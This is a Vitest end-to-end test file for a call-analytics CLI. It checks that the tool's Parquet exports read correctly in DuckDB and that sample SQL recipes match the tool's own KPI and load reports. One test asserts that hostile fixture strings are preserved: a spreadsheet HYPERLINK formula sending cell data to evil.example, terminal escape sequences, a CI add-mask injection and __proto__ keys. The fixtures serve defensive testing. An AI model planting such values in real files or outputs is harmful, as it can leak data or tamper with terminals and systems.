// End to end in DuckDB (@duckdb/node-api, a dev dependency, offline): the built bin's Parquet exports open with
// typed columns and UTC timestamps, and samples/sql/duckdb.sql, run as written (only the file path filled in),
// gives analyze's calls, answered, ASR, service level, abandon rate and ACD per day and direction.
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DuckDBInstance } from "@duckdb/node-api";
import { afterAll, describe, expect, it } from "vitest";
import { ROOT, runBin } from "../support/bin.js";

const TIMEOUT = 60_000;
const tmp = mkdtempSync(join(tmpdir(), "teltel-duckdb-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

async function ok(args: string[]): Promise<string> {
  const result = await runBin(args);
  expect(result.stderr).toBe("");
  expect(result.code).toBe(0);
  return result.stdout;
}

/** Runs SQL (one or more statements) in a fresh in-memory DuckDB; the last statement's rows as JSON values. */
async function duck(sql: string): Promise<Record<string, unknown>[]> {
  const instance = await DuckDBInstance.create(":memory:");
  const connection = await instance.connect();
  try {
    const reader = await connection.runAndReadAll(sql);
    return reader.getRowObjectsJson() as Record<string, unknown>[];
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}

/** samples/sql/duckdb.sql with its file name pointed at `path`. */
function recipe(path: string): string {
  const sql = readFileSync(join(ROOT, "samples/sql/duckdb.sql"), "utf8");
  expect(sql).toContain("read_parquet('calls.parquet')");
  return sql.replace("read_parquet('calls.parquet')", `read_parquet('${path}')`);
}

interface Group {
  key: string;
  calls: number;
  answered: number;
  asr: number | null;
  talk: { mean: number | null };
  inbound: { serviceLevel: number | null; abandonRate: number | null };
}

/** analyze --by direction --format json of these files: its direction groups by key, and the report. */
async function analyzeByDirection(files: string[]) {
  const report = JSON.parse(await ok(["analyze", "--by", "direction", "--format", "json", ...files]));
  const groups = new Map<string, Group>(
    (report.breakdowns[0].groups as Group[]).map((group) => [group.key, group]),
  );
  return { report, groups };
}

/** One kpi_daily row against analyze's group of the same direction. */
function expectRowMatches(row: Record<string, unknown>, group: Group | undefined): void {
  expect(group).toBeDefined();
  const g = group as Group;
  expect(Number(row.calls)).toBe(g.calls);
  expect(Number(row.answered)).toBe(g.answered);
  expect(row.asr).toBe(g.asr);
  expect(row.service_level).toBe(g.inbound.serviceLevel);
  expect(row.abandon_rate).toBe(g.inbound.abandonRate);
  // A mean of decimals may differ in the last bit with the order of summation.
  expect(row.acd_s as number).toBeCloseTo(g.talk.mean as number, 9);
}

describe("DuckDB reads export --format parquet", { timeout: TIMEOUT }, () => {
  it("mixed-day.ndjson: typed columns, UTC timestamps, and the recipe's view = analyze", async () => {
    const file = join(tmp, "calls.parquet");
    expect(await ok(["export", "samples/mixed-day.ndjson", "--format", "parquet", "-o", file])).toBe("");
    const types = await duck(
      `SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_parquet('${file}'))`,
    );
    const typeOf = Object.fromEntries(types.map((t) => [t.column_name, t.column_type]));
    expect(typeOf).toEqual({
      session_id: "VARCHAR",
      status: "VARCHAR",
      accountcode: "VARCHAR",
      direction: "VARCHAR",
      type: "VARCHAR",
      subtype: "VARCHAR",
      started_at: "TIMESTAMP WITH TIME ZONE",
      ended_at: "TIMESTAMP WITH TIME ZONE",
      duration_s: "DOUBLE",
      ring_attempts: "INTEGER",
      first_ring_at: "TIMESTAMP WITH TIME ZONE",
      answered_at: "TIMESTAMP WITH TIME ZONE",
      time_to_answer_s: "DOUBLE",
      talk_s: "DOUBLE",
      final_state: "VARCHAR",
      answered: "BOOLEAN",
      hanged_by: "VARCHAR",
      hanged_value: "VARCHAR",
      hanged_user: "VARCHAR",
      operator: "VARCHAR",
      campaign_id: "VARCHAR",
      contact_id: "VARCHAR",
      trace_id: "VARCHAR",
      audio_url: "VARCHAR",
      anomalies: "VARCHAR[]",
      ring_states: "VARCHAR[]",
      wait_s: "DOUBLE",
      closed: "BOOLEAN",
    });
    // The first call of the day (samples/mixed-day.ndjson line 1): an instant, whatever the session's zone.
    const [first] = await duck(
      `SET TimeZone = 'Asia/Tokyo'; SELECT epoch_ms(started_at) AS ms, CAST(started_at AS VARCHAR) AS shown FROM read_parquet('${file}') WHERE session_id = 's-0304-0802-01'`,
    );
    expect(Number(first?.ms)).toBe(Date.parse("2026-03-04T08:02:10Z"));
    expect(first?.shown).toBe("2026-03-04 17:02:10+09");

    const rows = await duck(recipe(file));
    const { report, groups } = await analyzeByDirection(["samples/mixed-day.ndjson"]);
    expect(rows.map((row) => [row.day, row.direction])).toEqual([
      ["2026-03-04", "inbound"],
      ["2026-03-04", "outbound"],
    ]);
    for (const row of rows) expectRowMatches(row, groups.get(row.direction as string));
    // The headline figures of the whole report, from the view's rows.
    const sum = (key: string) => rows.reduce((total, row) => total + Number(row[key]), 0);
    expect(sum("calls")).toBe(report.calls.total);
    expect(sum("answered")).toBe(report.calls.answered);
    expect(sum("answered") / sum("calls")).toBe(report.kpis.asr);
    expect(rows.find((row) => row.direction === "inbound")?.service_level).toBe(
      report.kpis.inbound.serviceLevel,
    );
    // Hand-checked in samples/README.md: 37 calls, 19 answered; 14 inbound (10 answered), 23 outbound (9).
    expect([report.calls.total, report.calls.answered]).toEqual([37, 19]);
  });

  it("the README shows the recipe's view exactly as samples/sql/duckdb.sql has it", () => {
    const sql = readFileSync(join(ROOT, "samples/sql/duckdb.sql"), "utf8");
    const view = sql.slice(
      sql.indexOf("CREATE OR REPLACE VIEW kpi_daily AS"),
      sql.indexOf("SELECT * FROM kpi_daily;"),
    );
    expect(view.length).toBeGreaterThan(500);
    expect(readFileSync(join(ROOT, "README.md"), "utf8")).toContain(view.trimEnd());
  });

  it("two days (inbound-parallel.ndjson on 03-02, mixed-day.ndjson on 03-04): one row per day and direction", async () => {
    const file = join(tmp, "two-days.parquet");
    const inputs = ["samples/inbound-parallel.ndjson", "samples/mixed-day.ndjson"];
    await ok(["export", ...inputs, "--format", "parquet", "-o", file]);
    const rows = await duck(recipe(file));
    expect(rows.map((row) => [row.day, row.direction])).toEqual([
      ["2026-03-02", "inbound"],
      ["2026-03-04", "inbound"],
      ["2026-03-04", "outbound"],
    ]);
    const day2 = await analyzeByDirection([inputs[0] as string]);
    const day4 = await analyzeByDirection([inputs[1] as string]);
    expectRowMatches(rows[0] as Record<string, unknown>, day2.groups.get("inbound"));
    expectRowMatches(rows[1] as Record<string, unknown>, day4.groups.get("inbound"));
    expectRowMatches(rows[2] as Record<string, unknown>, day4.groups.get("outbound"));
  });

  it("hostile.ndjson per event: JSON columns, exact strings (NUL, escapes, formulas), a lone surrogate as U+FFFD", async () => {
    const file = join(tmp, "hostile-events.parquet");
    await ok(["export", "--events", "samples/hostile.ndjson", "--format", "parquet", "-o", file]);
    const types = await duck(
      `SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_parquet('${file}'))`,
    );
    const typeOf = Object.fromEntries(types.map((t) => [t.column_name, t.column_type]));
    expect(typeOf).toMatchObject({
      timestamp: "TIMESTAMP WITH TIME ZONE",
      participants: "BIGINT",
      is_answered: "BOOLEAN",
      data: "JSON",
      extra: "JSON",
      line: "BIGINT",
    });
    const rows = await duck(
      `SELECT session_id, trace_id, hanged_value, data->>'trace_id' AS data_trace, json_keys(extra) AS extra_keys, line FROM read_parquet('${file}') ORDER BY line`,
    );
    // samples/README.md: 42 events used.
    expect(rows).toHaveLength(42);
    const values = rows.flatMap((row) => [row.session_id, row.trace_id, row.hanged_value, row.data_trace]);
    expect(values).toContain("t\u0000x");
    expect(values).toContain('=HYPERLINK("http://evil.example/?d="&A1,"click")');
    expect(values).toContain("s-5-\u001b]0;pwned\u0007-\u001b[2J");
    expect(values).toContain("s-7-%0A::add-mask::x,y:z-\ufffd");
    expect(rows.map((row) => row.extra_keys)).toContainEqual(["__proto__", "constructor"]);
  });

  it("samples/sql/duckdb-load.sql: peak concurrency, its minute and the call-seconds per hour = analyze's load.byHour", async () => {
    const file = join(tmp, "load.parquet");
    const inputs = ["test/fixtures/load/day.ndjson", "samples/mixed-day.ndjson"];
    await ok(["export", ...inputs, "--format", "parquet", "-o", file]);
    const sql = readFileSync(join(ROOT, "samples/sql/duckdb-load.sql"), "utf8");
    expect(sql).toContain("read_parquet('calls.parquet')");
    for (const zone of ["UTC", "Europe/Riga"]) {
      const rows = await duck(
        sql
          .replace("read_parquet('calls.parquet')", `read_parquet('${file}')`)
          .replace("SET TimeZone = 'UTC'", `SET TimeZone = '${zone}'`),
      );
      const report = JSON.parse(await ok(["analyze", "--format", "json", "--tz", zone, ...inputs]));
      const hours = report.load.byHour as { day: string; hour: number; peakConcurrent: number }[];
      expect(hours.length).toBeGreaterThan(5);
      expect(
        rows.map((r) => [r.day, r.hour, Number(r.peak_concurrent), r.peak_minute, Number(r.call_seconds)]),
      ).toEqual(
        report.load.byHour.map(
          (h: {
            day: string;
            hour: number;
            peakConcurrent: number;
            peakMinute: string;
            callSeconds: number;
          }) => [h.day, h.hour, h.peakConcurrent, h.peakMinute, h.callSeconds],
        ),
      );
      expect(Math.max(...rows.map((r) => Number(r.peak_concurrent)))).toBe(report.load.peakConcurrent);
    }
  });
});
